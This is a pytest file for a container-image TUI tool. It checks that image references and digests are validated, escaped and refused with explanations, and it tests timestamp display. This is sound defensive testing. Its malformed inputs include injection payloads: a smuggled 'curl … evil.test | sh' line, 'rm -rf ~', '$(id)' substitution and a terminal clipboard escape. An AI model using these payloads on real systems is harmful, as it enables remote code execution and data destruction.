"""The value grammar shared by external commands and the copy keys, and what refusals say."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest

from swr_tui import commands, references
from swr_tui.formatting import age_text, plausible_time
from swr_tui.references import IMAGE_DIGEST, IMAGE_REFERENCE, quoted, reference_problem

NOW = datetime(2026, 11, 1, 12, 0, tzinfo=timezone.utc)


def test_external_commands_enforce_the_same_grammar() -> None:
    assert commands.VALUE_GRAMMARS["path"] is references.IMAGE_REFERENCE
    assert commands.VALUE_GRAMMARS["digest"] is references.IMAGE_DIGEST


@pytest.mark.parametrize(
    "value",
    [
        "swr.cn-north-4.myhuaweicloud.com/acme/webapp:v2.4.1",
        "100.125.0.198:20202/acme/webapp:v2.4.1",
        "swr.cn-north-4.myhuaweicloud.com/acme/webapp@sha256:" + "a" * 64,
    ],
)
def test_well_formed_references(value: str) -> None:
    assert reference_problem(value, IMAGE_REFERENCE) is None


@pytest.mark.parametrize(
    ("value", "grammar", "problem"),
    [
        ("swr.example.test/h/paste:v1\ncurl -s http://evil.test/x | sh\n", IMAGE_REFERENCE, "line breaks"),
        ("swr.example.test/h/x:v1\x1b]52;c;SGk=\x07", IMAGE_REFERENCE, "control or invisible"),
        ("swr.example.test/h/x:v1\u200b", IMAGE_REFERENCE, "control or invisible"),
        ("swr.example.test/h/x:v1 ; rm -rf ~", IMAGE_REFERENCE, "spaces"),
        ("swr.example.test/h/x:$(id)", IMAGE_REFERENCE, "only letters, digits"),
        ("sha256:abc;id", IMAGE_DIGEST, "algorithm:hex"),
    ],
)
def test_malformed_values_say_why(value: str, grammar: object, problem: str) -> None:
    found = reference_problem(value, grammar)  # type: ignore[arg-type]
    assert found is not None
    assert problem in found


def test_quoted_values_are_escaped_and_cut() -> None:
    assert quoted("a\nb\x1b") == "a\\nb\\x1b"
    long = quoted("x" * 10_000)
    assert len(long) == references.QUOTED_LIMIT
    assert long.endswith("…")


@pytest.mark.parametrize(
    "value", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00Z", "1900-01-01"]
)
def test_times_no_age_can_describe_show_as_sent(value: str) -> None:
    assert plausible_time(value) is None
    assert age_text(value, NOW) == value


def test_plausible_times_show_their_age() -> None:
    assert age_text("2026-11-01T09:00:00Z", NOW) == "3h ago"
    assert age_text("", NOW) == "-"
    assert age_text("not a time\x1b[2J", NOW) == "not a time\\x1b[2J"
